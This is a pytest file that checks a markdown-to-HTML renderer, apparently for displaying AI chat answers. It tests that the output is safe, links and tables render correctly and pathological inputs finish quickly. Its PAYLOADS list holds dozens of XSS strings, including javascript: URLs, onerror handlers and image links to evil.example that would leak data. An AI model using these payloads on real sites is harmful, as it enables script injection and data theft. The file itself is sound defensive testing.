import html
import re
import time
from html.parser import HTMLParser
from itertools import pairwise
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pygments.lexers import get_lexer_by_name  # type: ignore[import-untyped]

from lib.html import BLOCKS, LANGUAGES, MAX_LINES, MAX_MARKS, MAX_RENDERED, SCHEMES, Blocks, colour, plain, render

ATTRIBUTES = {
    "a": {"href", "rel", "target"},
    "button": {"class", "type", "data-copy"},
    "div": {"class", "role", "tabindex", "aria-label"},
    "ol": {"start", "dir"},
    "pre": {"class", "dir", "tabindex"},
    "th": {"scope", "class"},
    **{tag: {"class"} for tag in ("td", "li", "span", "table")},
    **{tag: {"dir"} for tag in BLOCKS - {"ol"}},
    **{tag: set() for tag in "br code del em header hr s strong tbody thead tr".split()},  # noqa: SIM905
}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<chat-stream src=//evil.example></chat-stream>",
    "<div hx-get=//evil.example hx-trigger=load></div>",
    "<div data-hx-get=//evil.example hx-on:click=alert(1)></div>",
    "<!-- --><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/account/logout/)",
    "[x](\\\\evil.example)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "[x](https://ok.example'onmouseover='alert(1))",
    '[x](https://ok.example"onmouseover="alert(1))',
    '[x](https://ok.example/"><img src=x onerror=alert(1)>)',
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: data:text/html,x 'title'",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/leak?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/leak?q=secret",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x" onerror="alert(1)](https://evil.example/a.png)',
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "[a [b](https://one.example) c](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<https://ok.example/" onclick=alert(1)>',
    "https://ok.example/<script>alert(1)</script>",
    'https://ok.example/"onmouseover="alert(1)',
    "javascript://ok.example/%0aalert(1)",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\nx\n```",
    "```js\n</code></pre><img src=x onerror=alert(1)>\n```",
    "    </code></pre><script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|--:|\n| <svg onload=alert(1)> | ![x](//e.example) |",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- [x](javascript:alert(1))\n- [ ] <img src=x onerror=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "</div></li></ol><script>alert(1)</script>",
    "\ud83d<script>alert(1)</script>",
]


class Inert(HTMLParser):
    """Fails on every tag, attribute and address that our pages do not draw themselves."""

    def handle_starttag(self, tag, attrs):
        assert tag in ATTRIBUTES, tag
        for name, value in attrs:
            assert name in ATTRIBUTES[tag], f"{tag} {name}"
            if name == "href":
                assert urlsplit(value).scheme in SCHEMES, value
        if tag == "a" and attrs:
            assert dict(attrs)["rel"] == "nofollow noopener noreferrer"
            assert dict(attrs)["target"] == "_blank"

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def check_inert(markup):
    parser = Inert(convert_charrefs=True)
    parser.feed(markup)
    parser.close()
    return markup


def text_of(markup):
    return html.unescape(re.sub(r"<[^>]*>", "", markup))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_a_model_writes_comes_out_inert(payload):
    """F-05, F-07."""
    for text in (payload, f"Well: {payload} and\nmore {payload}", f"- {payload}", f"| a |\n|---|\n| {payload} |"):
        check_inert(render(text))


@given(st.text(alphabet=st.sampled_from("<>\"'`[]()!*_~#|-=:/&;\\ \n\tabjsx1\x00"), max_size=200))
def test_no_text_whatever_gets_past_the_allow_list(text):
    """F-07."""
    check_inert(render(text))


@pytest.mark.parametrize(
    "text",
    ["![a chart](https://evil.example/x.png?q=1)", "![a chart][r]\n\n[r]: https://evil.example/x.png?q=1"],
)
def test_an_image_becomes_a_link_that_says_where_it_goes(text):
    """F-08."""
    markup = render(text)

    assert "<img" not in markup
    assert 'href="https://evil.example/x.png?q=1"' in markup
    assert text_of(markup).strip() == "a chart (https://evil.example/x.png?q=1)"


def test_an_image_inside_a_link_shows_its_address_and_keeps_the_link():
    markup = render("[![logo](https://evil.example/a.png)](https://ok.example/)")

    assert markup.count("<a ") == 1
    assert text_of(markup).strip() == "logo (https://evil.example/a.png)"


@pytest.mark.parametrize(
    ("text", "target"),
    [
        ("see https://ok.example/a.", "https://ok.example/a"),
        ("(see https://ok.example/a)", "https://ok.example/a"),
        ("https://en.example/wiki/Heat_(physics), they say", "https://en.example/wiki/Heat_(physics)"),
        ("**https://ok.example/a**", "https://ok.example/a"),
        ("<https://ok.example/b>", "https://ok.example/b"),
        ("[mail](mailto:a@ok.example)", "mailto:a@ok.example"),
    ],
)
def test_whole_addresses_become_links(text, target):
    assert re.findall(r'href="([^"]*)"', render(text)) == [target]


def test_file_names_are_no_links():
    assert "<a" not in render("edit main.rs, app.sh and setup.py; write to me@ok.example")


def test_a_table_scrolls_in_its_own_box_and_numbers_stand_right():
    markup = render("| a | b |\n|---|--:|\n| 1 | 2 |")

    assert markup.startswith('<div class="table-scroll"')
    assert '<th scope="col" class="num">b</th>' in markup
    assert '<td class="num">2</td>' in markup


def test_headings_start_at_h3_and_leave_out_no_level():
    levels = re.findall(r"<h(\d)", render("# a\n\n#### b\n\n# c\n\n###### d\n\n## e\n\n### f"))

    assert levels == ["3", "4", "3", "4", "3", "4"]


def test_each_block_finds_its_own_direction():
    assert render("مرحبا\n\nhello").count('<p dir="auto">') == 2


def test_tasks_are_drawn_without_form_fields():
    markup = render("- [ ] buy\n- [x] pay")

    assert text_of(markup).split() == ["☐", "buy", "☑", "pay"]
    assert markup.count('<li class="task">') == 2


def test_a_code_block_names_its_language_and_can_be_copied():
    markup = render("```python\ndef f(): pass\n```")

    assert "<header><span>python</span>" in markup
    assert "data-copy" in markup
    assert '<span class="k">def' in markup


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_colouring_changes_no_character_of_the_code(language):
    code = 'if (a < b) { return "x" + \'é\'; } // note\n<p class="q">&amp;</p>\n\n# end\n\tlast: 0x1F'

    lexer = get_lexer_by_name(language)

    assert text_of(colour(code, lexer, seconds=5)) == code
    assert text_of(colour(code, lexer, seconds=0)) == code


def test_colouring_that_runs_out_of_time_leaves_the_rest_plain():
    code = "a\n" * 6000  # 17 s in Pygments' lexer of C#

    lexer = get_lexer_by_name("c#")

    started = time.thread_time()
    markup = colour(code, lexer, seconds=0.02)

    assert time.thread_time() - started < 1
    assert text_of(markup) == code


PATHOLOGICAL = {
    "brackets": "[" * 20_000,
    "brackets, 64 kB": "[" * 65_536,
    "brackets, as many as are parsed": "[" * MAX_MARKS,
    "emphasis, as much as is parsed": "*a " * MAX_MARKS,
    "mixed emphasis, as much as is parsed": "**a_" * (MAX_MARKS // 3),
    "strikes, as many as are parsed": "~~a" * (MAX_MARKS // 2),
    "image starts, as many as are parsed": "![" * MAX_MARKS,
    "image starts": "![" * 20_000,
    "backticks": "`" * 65_536,
    "growing backticks": "".join("`" * number + " " for number in range(360)),
    "nested list": "".join("  " * number + "- a\n" for number in range(350)),
    "list in one line": "- " * 32_768,
    "nested quotes": ">" * 65_536,
    "quotes and lists": "> - " * 16_000,
    "emphasis": "*a " * 21_000,
    "mixed emphasis": "**a_" * 16_000,
    "open links": "[a](b" * 13_000,
    "open targets": "[a](" + "(" * 60_000,
    "angles": "<" * 65_536,
    "addresses": "http://a" * 8_192,
    "schemes": "://" * 20_000,
    "parentheses in an address": "http://a/" + "(" * 60_000,
    "parentheses in an address, in pairs": "http://a/" + "()" * 30_000 + "!" * 100,
    "references": "[a]: http://b\n" + "[a]" * 20_000,
    "images": "![a](http://b)" * 4_600,
    "pipes": "|" * 32_768 + "\n" + "|-" * 16_000,
    "short rows of a wide table": "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + "|a\n" * 20_000,
    "wide table of 2 kB": "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + "|a\n" * 130,
    "rows": "|a|b|\n|-|-|\n" + "|\n" * 30_000,
    "entities": "&" * 65_536,
    "strikes": "~~a" * 21_000,
    "headings": "# a\n" * 16_000,
    "paragraphs": "a\n\n" * 20_000,
    "code of one word": "```c#\n" + "a\n" * 30_000 + "```",
    "code of one line": "```java\n" + "a " * 30_000 + "\n```",
    "many blocks of code": '```java\na = "a a a a a\n```\n' * 2_500,
}


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_64_kb_made_to_hurt_take_less_than_a_second(name):
    """F-11. Processor time, so that a busy machine does not fail it."""
    started = time.thread_time()
    markup = render(PATHOLOGICAL[name])

    assert time.thread_time() - started < 1
    check_inert(markup)


def test_a_text_too_long_to_format_is_shown_as_it_is():
    for text in ("<b>" + "x" * MAX_RENDERED, "<b>\n" * (MAX_LINES + 1), "<b>[" * (MAX_MARKS + 1)):
        markup = render(text)

        assert markup.startswith('<pre class="plain"')
        assert text_of(check_inert(markup)) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("**Bold** and `code`", "Bold and code"),
        ("# Title\n\nText", "Title Text"),
        ("Look at [the guide](https://a.example)", "Look at the guide"),
        ("```python\nprint(1)\n```", "print(1)"),
        ("a\nb\tc", "a b c"),
        ("<b>x</b>", "<b>x</b>"),
        ("", ""),
        ("ab\u202egpj.exe\x07", "abgpj.exe"),
        ("word " * 40, "word word word word word word word word word word word word…"),
    ],
)
def test_plain_is_one_line_without_marks(text, expected):
    """F-04 for titles: nothing reorders the line."""
    assert plain(text) == expected


def test_plain_is_never_longer_than_asked():
    assert len(plain("x" * 500)) <= 60


def ends_of(pieces):
    blocks = Blocks()
    for piece in pieces:
        closed_before = len(blocks.ends)
        assert blocks.feed(piece) == (len(blocks.ends) > closed_before)
    return blocks.ends


@pytest.mark.parametrize(
    ("text", "blocks"),
    [
        ("one\n\ntwo\n\nthree", ["one\n\n", "two\n\n"]),
        ("\n\n\none\n\n", ["\n\n\none\n\n"]),
        ("one\n \t\ntwo", ["one\n \t\n"]),
        ("one\r\n\r\ntwo", ["one\r\n\r\n"]),
        ("```py\na\n\nb\n```\nafter", ["```py\na\n\nb\n```\n"]),
        ("~~~\n```\n\n~~~\n", ["~~~\n```\n\n~~~\n"]),
        ("````\n```\n\n````\n", ["````\n```\n\n````\n"]),
        ("```\na\n`````\nb", ["```\na\n`````\n"]),
        ("```\na\n``` not closed\n\n```\n", ["```\na\n``` not closed\n\n```\n"]),
        ("`code` and ```inline``` text\n\nb", ["`code` and ```inline``` text\n\n"]),
        ("text\n```\na\n```\n", ["text\n```\na\n```\n"]),
        ("1. a\n\n   ```\n   b\n\n   c\n   ```\n\n2. d", ["1. a\n\n", "   ```\n   b\n\n   c\n   ```\n"]),
        ("no end", []),
        ("```\nno end\n\n", []),
    ],
)
def test_a_block_ends_at_a_blank_line_or_with_its_fence(text, blocks):
    ends = ends_of([text])

    assert [text[start:end] for start, end in zip([0, *ends], ends, strict=False)] == blocks


@given(
    st.text(alphabet=st.sampled_from("`~\n\n a-\r"), max_size=80),
    st.lists(st.integers(min_value=0, max_value=80), max_size=20),
)
def test_the_same_text_has_the_same_blocks_however_it_arrives(text, cuts):
    edges = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    pieces = [text[start:end] for start, end in pairwise(edges)]

    assert ends_of(pieces) == ends_of([text]) == ends_of(list(text))


def test_the_blocks_of_an_answer_say_what_the_answer_says():
    text = "Intro **bold**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx = 1\n\ny = 2\n```\n\n- one\n- two\n\nend"
    ends = [*ends_of(list(text)), len(text)]

    parts = [render(text[start:end]) for start, end in zip([0, *ends], ends, strict=False)]

    assert text_of("".join(parts)).split() == text_of(render(text)).split()
